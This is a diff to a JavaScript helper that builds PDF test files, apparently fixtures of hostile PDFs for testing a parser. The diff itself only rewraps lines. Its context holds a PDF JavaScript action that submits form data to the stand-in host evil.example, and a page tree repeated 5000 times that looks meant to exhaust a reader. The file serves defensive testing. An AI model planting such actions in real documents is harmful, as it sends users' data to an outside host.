@@ -17,7 +17,8 @@ export function pdf(objects, { trailer = '' } = {}) {
   }
   const start = size, n = Math.max(...Object.keys(objects).map(Number)) + 1;
   const table = Array.from({ length: n - 1 }, (_, i) => `${String(places[i + 1] ?? 0).padStart(10, '0')} 00000 n \n`);
-  add(Buffer.from(`xref\n0 ${n}\n0000000000 65535 f \n${table.join('')}trailer\n<< /Size ${n} /Root 1 0 R ${trailer}>>\n`
+  add(Buffer.from(`xref\n0 ${n}\n0000000000 65535 f \n${table.join('')}`
+    + `trailer\n<< /Size ${n} /Root 1 0 R ${trailer}>>\n`
     + `startxref\n${start}\n%%EOF\n`));
   return Buffer.concat(parts);
 }
@@ -60,7 +61,8 @@ export function inColumns(title, columns) {
 const words = (/** @type {string} */ text) => content([{ x: 50, y: 100, text }]);
 const ACTION = '/S /JavaScript /JS (app.alert(1);this.submitForm("http://evil.example/a"))';
 const KIDS = '3 0 R '.repeat(5000);
-const zipped = (/** @type {Buffer} */ data) => ({ data: deflateSync(data, { level: 9 }), extra: '/Filter /FlateDecode ' });
+const zipped = (/** @type {Buffer} */ data) =>
+  ({ data: deflateSync(data, { level: 9 }), extra: '/Filter /FlateDecode ' });
 
 /** Hostile files, and what may be read of them: a text, or undefined if they may be refused.
  * @returns {Record<string, {bytes: Buffer, text?: string}>} */
